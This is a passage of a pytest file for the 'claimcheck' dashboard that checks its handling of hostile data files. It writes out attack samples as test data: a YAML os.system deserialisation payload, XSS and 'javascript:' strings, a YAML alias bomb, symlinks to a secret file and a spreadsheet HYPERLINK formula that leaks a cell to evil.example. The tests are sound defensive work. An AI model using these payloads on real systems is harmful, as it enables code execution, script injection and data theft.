"""Hostile input: broken, huge, oddly encoded or booby-trapped data gets a clear message, never a
traceback, never rendered HTML from the data, and no valid row is lost."""

from __future__ import annotations

import os
import subprocess
import sys
import time

import pytest
from streamlit.testing.v1 import AppTest

from claimcheck.dataset import load_dataset
from claimcheck.validate import validate

from .conftest import MINI, ROOT, edit

CLEAN_ROWS = {name: len(df) for name, df in load_dataset(MINI).tables.items()}


def rows_kept_except(ds, broken: set[str]) -> None:
    """Every table not deliberately broken keeps all its rows."""
    for name, n in CLEAN_ROWS.items():
        if name not in broken:
            assert len(ds[name]) == n, f"{name} lost rows"


def test_truncated_yaml(mini):
    text = (mini / "claims.yaml").read_text(encoding="utf-8")
    (mini / "claims.yaml").write_text(text[: len(text) // 2 - 7], encoding="utf-8")
    ds = load_dataset(mini)
    assert any(p.file == "claims.yaml" for p in ds.problems)
    rows_kept_except(ds, {"claims", "claim_studies"})


def test_yaml_that_is_not_a_list_of_records(mini):
    (mini / "studies.yaml").write_text("just a sentence\n", encoding="utf-8")
    ds = load_dataset(mini)
    assert any("expected a list of records" in p.message for p in ds.problems)


def test_a_ten_megabyte_junk_file_is_reported_quickly(mini):
    (mini / "topics.csv").write_bytes(b"id,label,description\n" + (b"x," * 5 + b"\n") * (10 * 1024 * 1024 // 12))
    start = time.perf_counter()
    ds = load_dataset(mini)
    assert time.perf_counter() - start < 60
    assert any(p.file == "topics.csv" and "cells but the header has 3" in p.message for p in ds.problems)
    rows_kept_except(ds, {"topics", "claims", "claim_studies"})  # links of claims set aside go with them


def test_a_file_over_the_size_limit_is_not_read(mini):
    (mini / "harms.yaml").write_bytes(b"#" * (21 * 1024 * 1024))
    problems = [str(p) for p in validate(mini).problems]
    assert any("over the" in p and "limit" in p for p in problems)


def test_binary_and_latin1_files(mini):
    (mini / "conditions.csv").write_bytes(b"id,label\x00\xff\xfe")
    (mini / "topics.csv").write_bytes("id,label,description\npain,Douleur,caf\xe9\n".encode("latin-1"))
    problems = [str(p) for p in validate(mini).problems]
    assert any(p.startswith("conditions.csv") for p in problems)
    assert any(p.startswith("topics.csv:2") and "UTF-8" in p for p in problems)


def test_one_byte_that_is_not_utf8_sets_aside_only_its_record(mini):
    """A cell pasted from a Latin-1 file loses its own row or record, named by line, id and byte; the table stays.

    (One such byte emptied the whole table, and the page said there was no data.)
    """
    legality = (mini / "legality.csv").read_bytes()
    rows = legality.split(b"\n")
    rows[2] = rows[2].replace(b"Texas", b"T\xe9xas", 1)  # line 3, the row of R2
    (mini / "legality.csv").write_bytes(b"\n".join(rows))
    claims = (mini / "claims.yaml").read_bytes()
    start = claims.index(b"- id: K2")
    cut = claims.index(b"statement:", start) + len(b"statement: ")
    (mini / "claims.yaml").write_bytes(claims[:cut] + b"\xe9" + claims[cut:])
    ds = load_dataset(mini)
    problems = [str(p) for p in ds.problems]
    assert any(p.startswith("legality.csv:3: R2:") and "UTF-8" in p and "set aside" in p for p in problems), problems
    k2_line = claims[:start].count(b"\n") + 2  # the statement is the record's second line
    assert any(p.startswith(f"claims.yaml:{k2_line}: K2:") and "UTF-8" in p for p in problems), problems
    assert list(ds["legality"]["id"]) == [r.split(b",")[0].decode() for r in rows[1:] if r.strip() and not r.startswith(b"R2,")]
    assert "K2" not in set(ds["claims"]["id"]) and len(ds["claims"]) == CLEAN_ROWS["claims"] - 1
    # a link to the claim set aside is said to be set aside, not missing
    assert any("K2" in p and "set aside" in p for p in problems if p.startswith("claim_studies.csv")), problems
    rows_kept_except(ds, {"legality", "claims", "claim_studies"})


def test_a_csv_header_that_is_not_utf8_is_named(mini):
    (mini / "topics.csv").write_bytes(b"id,lab\xe9l,description\npain,Pain,x\n")
    problems = [str(p) for p in load_dataset(mini).problems]
    assert any(p.startswith("topics.csv:1") and "header" in p and "UTF-8" in p for p in problems), problems


def test_a_required_column_missing_from_a_header_is_one_problem_and_every_row_is_counted_aside(mini, monkeypatch):
    import csv

    with open(mini / "legality.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    i = rows[0].index("status")
    with open(mini / "legality.csv", "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(r[:i] + r[i + 1 :] for r in rows)
    problems = [str(p) for p in validate(mini).problems]
    mine = [p for p in problems if p.startswith("legality.csv")]
    n = sum(1 for r in rows[1:] if any(r))
    assert len(mine) == 1 and mine[0].startswith("legality.csv:1: status: the header has no column 'status'"), mine
    assert f"all {n} rows are set aside" in mine[0]
    ds = load_dataset(mini)
    assert len(ds.set_aside["legality"]) == n and ds["legality"].empty
    # the page says the entries were set aside, not that there is no legal data
    monkeypatch.setenv("CLAIMCHECK_DATA_DIR", str(mini))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
    at.switch_page("pages/5_Legality.py")
    at.run()
    assert not at.exception
    said = [x.value for x in at.info]
    assert any(f"All {n} legal entries were set aside" in x for x in said) and not any("no legal" in x.lower() for x in said), said
    assert any(f"validate {mini}" in e.value or "validate " in e.value and str(mini.name) in e.value for e in at.error), (
        "the banner names the folder"
    )


def test_a_misspelled_required_column_is_named_with_its_fix(mini):
    text = (mini / "topics.csv").read_text(encoding="utf-8")
    (mini / "topics.csv").write_text(text.replace("label", "lable", 1), encoding="utf-8")
    mine = [str(p) for p in validate(mini).problems if p.file == "topics.csv"]
    assert mine == [mine[0]] and "rename the header's 'lable' to 'label'" in mine[0], mine


def test_a_yaml_field_problem_names_the_field_s_own_line(mini):
    text = (mini / "claims.yaml").read_text(encoding="utf-8")
    start = text.index("- id: K2")
    at = text.index("verdict:", start)
    line = text[:at].count("\n") + 1
    old = text[at : text.index("\n", at)]
    (mini / "claims.yaml").write_text(text[:at] + "verdict: wrongly" + text[at + len(old) :], encoding="utf-8")
    found = [str(p) for p in validate(mini).problems if p.field == "verdict"]
    assert found and found[0].startswith(f"claims.yaml:{line}: K2: verdict:"), found


def test_recursive_and_exploding_yaml_aliases(mini):
    (mini / "studies.yaml").write_text("- &a\n  id: loop\n  urls: &u [*u]\n  nested: *a\n", encoding="utf-8")
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi")
    )
    (mini / "harms.yaml").write_text(bomb, encoding="utf-8")
    start = time.perf_counter()
    ds = load_dataset(mini)
    assert time.perf_counter() - start < 30
    assert any(p.file == "studies.yaml" for p in ds.problems) and any(p.file == "harms.yaml" for p in ds.problems)
    rows_kept_except(ds, {"studies", "harms", "claim_studies", "harm_figures"})


def test_python_objects_in_yaml_are_refused(mini):
    (mini / "studies.yaml").write_text("- !!python/object/apply:os.system ['echo hacked > /tmp/pwned']\n", encoding="utf-8")
    problems = [str(p) for p in validate(mini).problems]
    assert any("malformed YAML" in p for p in problems)
    assert not os.path.exists("/tmp/pwned")


def test_javascript_links_and_other_schemes_are_rejected(mini):
    edit(
        mini / "studies.yaml",
        "urls: [https://example.org/rat2020]",
        "urls: ['javascript:alert(1)', 'data:text/html,hi', 'https://ok.example/x']",
    )
    edit(mini / "legality.csv", "https://example.org/fr", "JAVASCRIPT:alert(document.cookie)")
    problems = [str(p) for p in validate(mini).problems]
    assert any("'javascript:alert(1)' is not an http(s) URL" in p for p in problems)
    assert any("legality.csv:2" in p and "not an http(s) URL" in p for p in problems)


def test_dangling_and_duplicate_ids_across_tables(mini):
    edit(mini / "claims.yaml", "- id: K3", "- id: K1")
    edit(mini / "harm_figures.csv", "G2,liver,", "G2,kidney,")
    problems = [str(p) for p in validate(mini).problems]
    assert any("duplicate id" in p for p in problems)
    assert any("harm_figures.csv:3" in p and "refers to harms id 'kidney'" in p for p in problems)


HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)> [click](javascript:alert(2)) **bold**'


def _hostile_copy(mini):
    edit(mini / "claims.yaml", "statement: Glowroot relieves joint pain.", f"statement: '{HOSTILE}'")
    edit(mini / "claims.yaml", "rationale: Only one small animal study.", f"rationale: '{HOSTILE}'")
    edit(mini / "harms.yaml", "name: Nausea", f"name: '{HOSTILE}'")
    edit(mini / "articles.yaml", "label: Glowroot cures everything", f"label: '{HOSTILE}'")
    edit(mini / "legality.csv", "R1,FRA,France,", f'R1,FRA,"{HOSTILE.replace(chr(34), chr(39))}",')
    return mini


@pytest.mark.parametrize(
    "page", [None, "pages/1_Claims.py", "pages/2_Evidence.py", "pages/3_Articles.py", "pages/4_Adverse_effects.py",
             "pages/5_Legality.py", "pages/6_Classroom.py", "pages/7_Methods_and_data.py", "pages/8_Check_an_article.py"],
)  # fmt: skip
def test_html_and_script_in_data_are_shown_as_text(mini, monkeypatch, page):
    monkeypatch.setenv("CLAIMCHECK_DATA_DIR", str(_hostile_copy(mini)))
    at = AppTest.from_file("../dashboard.py", default_timeout=60)
    at.query_params["claim"] = "K1"
    at.query_params["doc"] = "A1"
    at.run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    for m in at.markdown:
        if m.proto.allow_html:
            # The only HTML the app writes itself (article text, presenter) must carry the data escaped.
            assert "<script>" not in m.value and "<img src=x" not in m.value
        else:
            assert "](javascript:" not in m.value


def test_the_validator_never_tracebacks_on_a_corpus_of_junk(mini):
    junk = ["", "\x00", "---\n- [", "- id: x\n  - y", "{{{{", "- id: 1\n  year: .inf", 'a,b\n"unterminated', "id\n" + "a" * 100_000]
    for i, content in enumerate(junk):
        for name in ("claims.yaml", "legality.csv"):
            (mini / name).write_text(content, encoding="utf-8")
        result = subprocess.run(
            [sys.executable, "-m", "claimcheck", "validate", str(mini)], cwd=ROOT, capture_output=True, text=True, timeout=120
        )
        assert result.returncode in (0, 1), (i, result.stderr[-2000:])
        assert "Traceback" not in result.stderr and "Traceback" not in result.stdout, (i, result.stderr[-2000:])


def test_links_built_from_data_cannot_carry_script_or_break_out():
    from ui.frame import link

    assert link("click", "javascript:alert(1)") == "click"
    assert link("[x](y)", "https://example.org/a b)(c") == "[\\[x\\]\\(y\\)](https://example.org/a%20b%29%28c)"


# =====================================================================================
# The hostile corpus of issue 15: each class of fault, on a copy of the real data folder,
# with the example from the issue and a variant in another file or field.
# =====================================================================================
import csv  # noqa: E402
import io  # noqa: E402
import json  # noqa: E402
import re  # noqa: E402
import shutil  # noqa: E402
import threading  # noqa: E402
import zipfile  # noqa: E402
from pathlib import Path  # noqa: E402

import yaml  # noqa: E402

from claimcheck import charts as C  # noqa: E402
from claimcheck import domain as D  # noqa: E402
from claimcheck import load as LOAD  # noqa: E402
from claimcheck.claimreview import claim_reviews_json  # noqa: E402
from claimcheck.dictionary import data_dictionary  # noqa: E402
from claimcheck.export import csv_bytes, dataset_zip  # noqa: E402
from claimcheck.safetext import LINE_BREAK as LINE_BREAK_RE  # noqa: E402

from .conftest import REAL  # noqa: E402

PAGES = [None, "pages/1_Claims.py", "pages/2_Evidence.py", "pages/3_Articles.py", "pages/4_Adverse_effects.py",
         "pages/5_Legality.py", "pages/6_Classroom.py", "pages/7_Methods_and_data.py", "pages/8_Check_an_article.py"]  # fmt: skip
SECRET = "TOP-SECRET-OUTSIDE-THE-DATA-FOLDER-3f9a"


@pytest.fixture
def real(tmp_path: Path) -> Path:
    """A fresh copy of the real data folder, to break."""
    dest = tmp_path / "data"
    shutil.copytree(REAL, dest)
    return dest


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file outside the data folder that must never be read, shown or shared."""
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text(f"{SECRET}\nroot:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    return path


def problems(directory: Path) -> list[str]:
    return [str(p) for p in validate(directory).problems]


def yq(text: str) -> str:
    """``text`` as a YAML double-quoted scalar: control and line-break characters escaped, the rest as is."""

    def one_char(ch: str) -> str:
        if ch in '"\\':
            return "\\" + ch
        if ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in "\u2028\u2029":
            return f"\\u{ord(ch):04x}"
        return ch

    return '"' + "".join(one_char(ch) for ch in text) + '"'


def one(found: list[str], *fragments: str) -> str:
    """The one problem line holding every fragment (fails listing them all otherwise)."""
    hits = [p for p in found if all(f in p for f in fragments)]
    assert hits, f"no problem with {fragments}; found:\n" + "\n".join(found[:40])
    return hits[0]


def records(path: Path) -> list[dict]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def csv_rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def csv_set(path: Path, key: str, value: str, column: str, new: str) -> None:
    """Set one cell of a CSV file (the row whose ``key`` column is ``value``), written back as CSV."""
    rows = csv_rows(path)
    header = list(rows[0])
    hits = [r for r in rows if r[key] == value]
    assert hits, f"{value!r} not in {path.name}"
    hits[0][column] = new
    out = io.StringIO()
    w = csv.DictWriter(out, header, lineterminator="\n")
    w.writeheader()
    w.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def yaml_set(path: Path, record_id: str, field: str, raw: str) -> None:
    """Replace the one-line ``field:`` of the YAML record ``record_id`` with ``field: raw`` (raw YAML)."""
    lines = path.read_text(encoding="utf-8").split("\n")
    start = next(i for i, line in enumerate(lines) if re.fullmatch(rf"- id: ['\"]?{re.escape(record_id)}['\"]?", line))
    end = next((i for i in range(start + 1, len(lines)) if lines[i].startswith("- ")), len(lines))
    for i in range(start, end):
        if re.match(rf"(- |  ){field}:", lines[i]):
            assert not re.search(r":\s*[>|][-+]?\s*$", lines[i]), f"{field} of {record_id} spans several lines"
            lines[i] = lines[i][: lines[i].index(field)] + f"{field}: {raw}"
            path.write_text("\n".join(lines), encoding="utf-8")
            return
    raise AssertionError(f"{record_id} has no one-line {field}")


def yaml_add(path: Path, record_id: str, line: str) -> None:
    """Add a raw line (``  key: value``) just after the ``- id:`` line of a record."""
    text = path.read_text(encoding="utf-8")
    head = re.search(rf"^- id: ['\"]?{re.escape(record_id)}['\"]?\n", text, re.M)
    assert head, record_id
    path.write_text(text[: head.end()] + line + "\n" + text[head.end() :], encoding="utf-8")


def run_page(directory: Path, monkeypatch, page: str | None, query: dict | None = None) -> AppTest:
    monkeypatch.setenv("CLAIMCHECK_DATA_DIR", str(directory))
    at = AppTest.from_file("../dashboard.py", default_timeout=90)
    for k, v in (query or {}).items():
        at.query_params[k] = v
    at.run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def page_text(at: AppTest) -> str:
    """Every text element's value on the page (markdown, captions, code, text, alerts, tables)."""
    parts = [str(e.value) for kind in ("markdown", "caption", "code", "text", "error", "warning", "info", "title", "header", "subheader")
             for e in getattr(at, kind)]  # fmt: skip
    parts += [df.value.to_csv() for df in at.dataframe]
    return "\n".join(parts)


def banner(at: AppTest) -> str:
    msgs = [e.value for e in at.error if "The data folder has" in e.value]
    assert len(msgs) == 1, [e.value for e in at.error]
    return msgs[0]


def first_article(directory: Path) -> dict:
    return records(directory / "articles.yaml")[0]


# --- 1. links out of the data folder ----------------------------------------------------
def test_links_out_of_the_data_folder_are_never_read_shown_or_zipped(real, secret):
    art = first_article(real)
    (real / "articles" / "leak.txt").symlink_to(secret)  # a link no record refers to
    (real / "articles" / art["file"]).unlink()
    (real / "articles" / art["file"]).symlink_to(secret)  # an article record pointing at a link out
    (real / "CHANGELOG.md").unlink()
    (real / "CHANGELOG.md").symlink_to(secret)  # variant: a documentation file
    (real / "glossary.csv").unlink()
    (real / "glossary.csv").symlink_to(secret)  # variant: a table file
    found = problems(real)
    one(found, "articles/leak.txt", "link that leads outside the data folder")
    one(found, "CHANGELOG.md", "link that leads outside the data folder")
    one(found, "glossary.csv", "link that leads outside the data folder")
    one(found, "articles.yaml", art["id"], "file", "link that leads outside the data folder")
    ds = load_dataset(real)
    assert all(SECRET not in t for t in ds.article_texts.values())
    assert art["id"] not in set(ds["articles"]["id"])
    zipped = zipfile.ZipFile(io.BytesIO(dataset_zip(real, data_dictionary(), "readme")))
    assert all(SECRET.encode() not in zipped.read(n) for n in zipped.namelist())
    assert "data/articles/leak.txt" not in zipped.namelist() and "data/glossary.csv" not in zipped.namelist()
    assert "data/claims.yaml" in zipped.namelist(), "the regular files are still in the zip"


def test_a_link_inside_the_data_folder_is_still_read(real):
    art = first_article(real)
    text = (real / "articles" / art["file"]).read_text(encoding="utf-8")
    (real / "articles" / art["file"]).rename(real / "articles" / "moved.txt")
    (real / "articles" / art["file"]).symlink_to("moved.txt")
    assert problems(real) == []
    assert load_dataset(real).article_texts[art["id"]] == text


@pytest.mark.parametrize("page", ["pages/3_Articles.py", "pages/7_Methods_and_data.py"])
def test_pages_never_show_a_file_from_outside(real, secret, monkeypatch, page):
    art = first_article(real)
    (real / "articles" / art["file"]).unlink()
    (real / "articles" / art["file"]).symlink_to(secret)
    (real / "CHANGELOG.md").unlink()
    (real / "CHANGELOG.md").symlink_to(secret)
    at = run_page(real, monkeypatch, page, {"doc": art["id"]})
    assert SECRET not in page_text(at)
    assert "leads outside the data folder" in "\n".join(e.value for e in at.code)


# --- 2. devices, pipes and huge files ------------------------------------------------------
def test_devices_are_refused_before_a_byte_is_read():
    with pytest.raises(LOAD.Unreadable, match="is a device"):
        LOAD.read_bytes(Path("/dev"), "zero")


def test_a_link_to_a_device_and_a_pipe_in_the_folder_never_hang_or_fill_memory(real):
    art = first_article(real)
    (real / "articles" / art["file"]).unlink()
    (real / "articles" / art["file"]).symlink_to("/dev/zero")
    (real / "topics.csv").unlink()
    os.mkfifo(real / "topics.csv")  # variant: a pipe a reader would wait on forever
    (real / "articles" / "zero.txt").symlink_to("/dev/zero")
    start = time.perf_counter()
    found = problems(real)
    LOAD.fingerprint(real)
    zipped = zipfile.ZipFile(io.BytesIO(dataset_zip(real, data_dictionary(), "readme")))
    assert time.perf_counter() - start < 30
    one(found, "articles.yaml", art["id"], "leads outside the data folder")
    one(found, "topics.csv", "is a pipe (FIFO)")
    assert "data/articles/zero.txt" not in zipped.namelist() and "data/topics.csv" not in zipped.namelist()


def test_reads_are_capped_on_the_open_file_whatever_its_size_says(real, monkeypatch):
    # A sparse file reports its size honestly; a growing file or a /proc file would not:
    # whatever the size, no more than limit + 1 bytes are read.
    with open(real / "harms.yaml", "r+b") as f:
        f.truncate(50 * 1024 * 1024)  # variant: a YAML table
    calls = []
    real_read = os.read
    monkeypatch.setattr(os, "read", lambda fd, n: calls.append(n) or real_read(fd, n))
    with pytest.raises(LOAD.Unreadable, match="over the 1,000-byte limit"):
        LOAD.read_bytes(real, "claims.yaml", limit=1000)
    assert calls == [], "a file whose size is over the limit is refused before reading"
    os_stat = os.fstat

    class Lying:  # a file that claims to be small
        def __init__(self, st):
            self.st = st

        def __getattr__(self, name):
            return 10 if name == "st_size" else getattr(self.st, name)

    monkeypatch.setattr(os, "fstat", lambda fd: Lying(os_stat(fd)))
    with pytest.raises(LOAD.Unreadable, match="over the 1,000-byte limit"):
        LOAD.read_bytes(real, "harms.yaml", limit=1000)
    assert sum(calls) <= 1001
    monkeypatch.undo()
    monkeypatch.setattr(LOAD, "MAX_FILE_BYTES", 1000)
    zipped = zipfile.ZipFile(io.BytesIO(dataset_zip(real, data_dictionary(), "readme")))
    assert "data/harms.yaml" not in zipped.namelist() and "data/claims.yaml" not in zipped.namelist(), "the zip keeps to the limit"
    assert "data/conditions.csv" in zipped.namelist(), "a file under the limit is still shared"


# --- 3. the dataset's icon -------------------------------------------------------------------
@pytest.mark.parametrize(
    "icon,accepted",
    [("/etc/passwd", False), ("https://tracker.example/pixel.png", False), ("../static/x.svg", False), ("icon", False),
     ("🌿", True), (":material/eco:", True), (":material/../x:", False)],
)  # fmt: skip
def test_the_icon_is_only_an_emoji_or_a_material_icon(real, icon, accepted):
    text = (real / "dataset.yaml").read_text(encoding="utf-8")
    (real / "dataset.yaml").write_text(re.sub(r"(?m)^icon: .*$", lambda m: f"icon: {yq(icon)}", text), encoding="utf-8")
    found = problems(real)
    if accepted:
        assert found == []
        assert load_dataset(real).meta["icon"] == icon
    else:
        one(found, "dataset.yaml", "icon", "not an emoji or a Material icon")
        assert load_dataset(real).meta["icon"] == "🔎"


def test_the_page_icon_handed_to_streamlit_is_never_a_path_or_url():
    from ui.frame import page_icon

    assert page_icon("/etc/hosts") == page_icon("https://x.example/a.png") == page_icon(":material/no_such_icon_xyz:") == "🔎"
    assert page_icon("🌿") == "🌿" and page_icon(":material/eco:") == ":material/eco:"


# --- 4. Markdown through a carriage return or another line break ----------------------------------
PHISH = "[Claim your free sample](https://phish.example/login) ![x](https://phish.example/pixel.png)"


@pytest.mark.parametrize("brk", ["\r\r", "\r\n\r\n", "\u2028\u2028", "\u2029", "\x0b\x0b", "\x0c\x0c", "\x85\x85", "\n\n"])
def test_markdown_and_html_helpers_treat_every_line_break_as_one(brk):
    from ui.frame import esc, md

    out = md(f"Safe text{brk}{PHISH}")
    assert not re.search(r"(?<!\\)[\[\]()<>!:]", out), "every character Markdown could act on is escaped"
    assert set(LINE_BREAK_RE.findall(out)) <= {"\n"}, "every kind of break is one plain newline"
    html_out = esc(f"Safe text{brk}{PHISH}")
    assert not LINE_BREAK_RE.search(html_out), "a raw break would end Markdown's HTML block"
    assert esc(f"a{brk}b", breaks="<br>").count("<br>") == len(LINE_BREAK_RE.findall(f"a{brk}b"))


def test_an_article_with_carriage_returns_never_lets_markdown_out_of_its_html(real, monkeypatch):
    art = first_article(real)
    path = real / "articles" / art["file"]
    path.write_text(path.read_text(encoding="utf-8") + f"\r\r{PHISH}\r\rThe end.", encoding="utf-8")
    assert problems(real) == [], "carriage returns are line breaks in an article text, not a problem"
    at = run_page(real, monkeypatch, "pages/3_Articles.py", {"doc": art["id"]})
    body = [m.value for m in at.markdown if m.proto.allow_html and "phish.example" in m.value]
    assert len(body) == 1
    assert not LINE_BREAK_RE.search(body[0]), "every break became <br>, so the HTML block never ends"
    assert "Claim your free sample" in body[0]


@pytest.mark.parametrize(
    "file,field", [("dataset.yaml", "subject"), ("dataset.yaml", "title"), ("harms.yaml", "name"), ("articles.yaml", "label")]
)
def test_a_one_line_field_with_a_carriage_return_is_a_problem(real, file, field):
    rid = "" if file == "dataset.yaml" else records(real / file)[0]["id"]
    raw = yq(f"Kratom\r\r{PHISH}")
    if file == "dataset.yaml":
        text = (real / file).read_text(encoding="utf-8")
        (real / file).write_text(re.sub(rf"(?m)^{field}: .*$", lambda m: f"{field}: {raw}", text), encoding="utf-8")
    else:
        yaml_set(real / file, rid, field, raw)
    one(problems(real), file, field, "expected one line of text", "U+000D")


def test_a_line_separator_in_a_list_item_is_a_problem(real):
    text = (real / "dataset.yaml").read_text(encoding="utf-8")
    text = text.replace("limitations:\n", f"limitations:\n  - {yq('One' + chr(0x2028) + PHISH)}\n", 1)
    (real / "dataset.yaml").write_text(text, encoding="utf-8")
    one(problems(real), "dataset.yaml", "limitations", "line break")


# --- 5. HTML in chart labels ---------------------------------------------------------------------
POISON = '<a href="https://phish.example/x">Click</a> <span style="color:red">red</span> A<br>B & C https://phish.example/bare'
ALLOWED_TAGS = re.compile(r"</?(br|b|i|extra)>")


def poisoned_copy(real: Path) -> Path:
    """Every kind of data text that reaches a chart, poisoned with markup plotly would render."""
    for h in records(real / "harms.yaml")[:3]:
        yaml_set(real / "harms.yaml", h["id"], "name", yq(f"{h['name']} {POISON}"))
    for a in records(real / "articles.yaml"):
        yaml_set(real / "articles.yaml", a["id"], "label", yq(f"{a['label']} {POISON}"))
    for t in csv_rows(real / "topics.csv")[:3]:
        csv_set(real / "topics.csv", "id", t["id"], "label", f"{t['label']} {POISON}")
    for r in csv_rows(real / "legality.csv")[:5]:
        csv_set(real / "legality.csv", "id", r["id"], "name", f"{r['name']} {POISON}")
        csv_set(real / "legality.csv", "id", r["id"], "instrument", POISON)
    for r in csv_rows(real / "harm_figures.csv")[:40]:
        for col in ("denominator_label", "source_label", "period", "place"):
            csv_set(real / "harm_figures.csv", "id", r["id"], col, f"{r[col]} {POISON}")
    for r in csv_rows(real / "timeline.csv")[:5]:
        csv_set(real / "timeline.csv", "id", r["id"], "event", POISON)
    return real


def live_markup(spec) -> list[str]:
    """Strings in a figure that still hold a tag plotly would render, other than the chart's own <br>, <b>, <i>."""
    out = []

    def walk(x):
        if isinstance(x, str):
            if "<" in ALLOWED_TAGS.sub("", x):
                out.append(x)
        elif isinstance(x, dict):
            for v in x.values():
                walk(v)
        elif isinstance(x, list):
            for v in x:
                walk(v)

    walk(spec)
    return out


@pytest.mark.parametrize(
    "page,query",
    [(None, {}), ("pages/1_Claims.py", {"view": "chart"}), ("pages/2_Evidence.py", {}), ("pages/4_Adverse_effects.py", {}),
     ("pages/4_Adverse_effects.py", {"view": "figures"}), ("pages/5_Legality.py", {}), ("pages/5_Legality.py", {"map": "us"}),
     ("pages/5_Legality.py", {"map": "timeline"})],
)  # fmt: skip
def test_markup_in_the_data_is_never_live_in_a_chart(real, monkeypatch, page, query):
    at = run_page(poisoned_copy(real), monkeypatch, page, query)
    assert not problems(real)
    specs = [json.loads(el.proto.spec) for el in at.get("plotly_chart")]
    assert specs, "the page draws a chart"
    assert [s for spec in specs for s in live_markup(spec)] == []
    assert "&amp;amp;" not in json.dumps(specs), "escaped once, so the reader sees &, not &amp;"


def test_every_chart_builder_escapes_data_text(real):
    ds = load_dataset(poisoned_copy(real))
    claims = D.claims_table(ds)
    status = D.status_as_of(ds["legality"], __import__("datetime").date(2026, 1, 1), "leaf")
    figs = [
        C.claims_by_article(D.claims_by_article(claims, ds["articles"])),
        C.mentioned_vs_reported(D.harm_mentions(ds), ds["articles"]),
        C.evidence_matrix(D.evidence_matrix(D.evidence_links(ds), ds["topics"])),
        C.legal_map(status, "world", "t"),
        C.legal_map(status, "us", "t", local=D.local_rules_by_state(status)),
        C.timeline(D.timeline_events(ds["timeline"], dict(zip(ds["legality"]["code"], ds["legality"]["name"])))),
        C.counts_by_year(D.yearly_counts(D.figures_table(ds))),
    ]
    figures = D.figures_table(ds)
    for kind in figures["data_kind"].unique():
        figs.append(C.kind_panels(figures[figures["data_kind"] == kind], kind))
    for fig in figs:
        assert live_markup(fig.to_plotly_json()) == []
    text = json.dumps([f.to_plotly_json() for f in figs], default=str)
    assert "&lt;a href" in text, "the markup is still there, shown as text"
    assert "&amp;amp;" not in text and "&amp;lt;" not in text, "escaped once, so the reader sees & and <, not &amp;"
    table = C.figure_table(figs[1])
    assert table.apply(lambda col: col.astype(str).str.contains('<a href="https://phish', regex=False)).any().any(), (
        "the text alternative shows the text as written"
    )


# --- 6. formula injection in CSV downloads ----------------------------------------------------------
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_csv_downloads_neutralise_cells_a_spreadsheet_would_run(real):
    claim = records(real / "claims.yaml")[0]["id"]
    text = (real / "claims.yaml").read_text(encoding="utf-8")
    head = re.search(rf"^- id: {claim}\n  statement: .*?\n  claim_type", text, re.S | re.M)
    text = text[: head.start()] + f"- id: {claim}\n  statement: {yq(FORMULA)}\n  claim_type" + text[head.end() :]
    (real / "claims.yaml").write_text(text, encoding="utf-8")
    leg = csv_rows(real / "legality.csv")[0]["id"]
    csv_set(real / "legality.csv", "id", leg, "name", "@SUM(1+1)")  # variant: another table, another field
    csv_set(real / "legality.csv", "id", leg, "instrument", "\tTab first")
    fig = next(r for r in csv_rows(real / "harm_figures.csv") if r["unit"] == "percent_change" or r["unit"] == "count")
    csv_set(real / "harm_figures.csv", "id", fig["id"], "unit", "percent_change")
    csv_set(real / "harm_figures.csv", "id", fig["id"], "value", "-5")
    csv_set(real / "harm_figures.csv", "id", fig["id"], "period", "-5")
    assert problems(real) == []
    ds = load_dataset(real)
    claims_csv = list(csv.DictReader(io.StringIO(csv_bytes(ds["claims"]).decode())))
    assert next(r for r in claims_csv if r["id"] == claim)["statement"] == "'" + FORMULA
    shown = D.provenance_table(ds["legality"], __import__("datetime").date(2026, 12, 1))
    legal_csv = csv_bytes(shown).decode()
    assert "'@SUM(1+1)" in legal_csv and "\n@SUM" not in legal_csv and ",@SUM" not in legal_csv
    figs_csv = list(csv.DictReader(io.StringIO(csv_bytes(ds["harm_figures"]).decode())))
    row = next(r for r in figs_csv if r["id"] == fig["id"])
    assert row["value"] == "-5.0", "a real number stays a number"
    assert row["period"] == "'-5", "text that looks like a formula is neutralised"
    legality_csv = list(csv.DictReader(io.StringIO(csv_bytes(ds["legality"]).decode())))
    assert next(r for r in legality_csv if r["id"] == leg)["instrument"] == "'\tTab first"


def test_the_data_dictionary_download_says_cells_are_neutralised():
    from claimcheck.export import CSV_NOTE

    assert "single quote" in CSV_NOTE and "=" in CSV_NOTE
    assert data_dictionary()["Checks"].str.contains("single quote").any()


# --- 7. JSON-LD ---------------------------------------------------------------------------------------
def test_json_ld_cannot_close_its_script_element(real):
    ds = load_dataset(real)
    claims = D.claims_table(ds)
    assessed = claims.dropna(subset=["verdict"]).index
    claims.loc[assessed[0], "statement"] = "</script><script>alert(1)</script>"
    claims.loc[assessed[1], "rationale"] = "<!-- and & -->"  # variant: another field
    text = claim_reviews_json(claims, ds["articles"], "https://x.example", "p")
    assert "<" not in text and ">" not in text
    data = json.loads(text)
    assert data[0]["claimReviewed"] == "</script><script>alert(1)</script>"
    assert data[1]["reviewRating"]["ratingExplanation"] == "<!-- and & -->"


# --- 8. numbers parse strictly ---------------------------------------------------------------------
def figure_of(real: Path, unit: str) -> dict:
    return next(r for r in csv_rows(real / "harm_figures.csv") if r["unit"] == unit)


def test_a_decimal_comma_or_thousands_separator_is_a_problem_not_a_guess(real):
    pct, cnt = figure_of(real, "percent"), figure_of(real, "count")
    csv_set(real / "harm_figures.csv", "id", pct["id"], "value", "31,8")
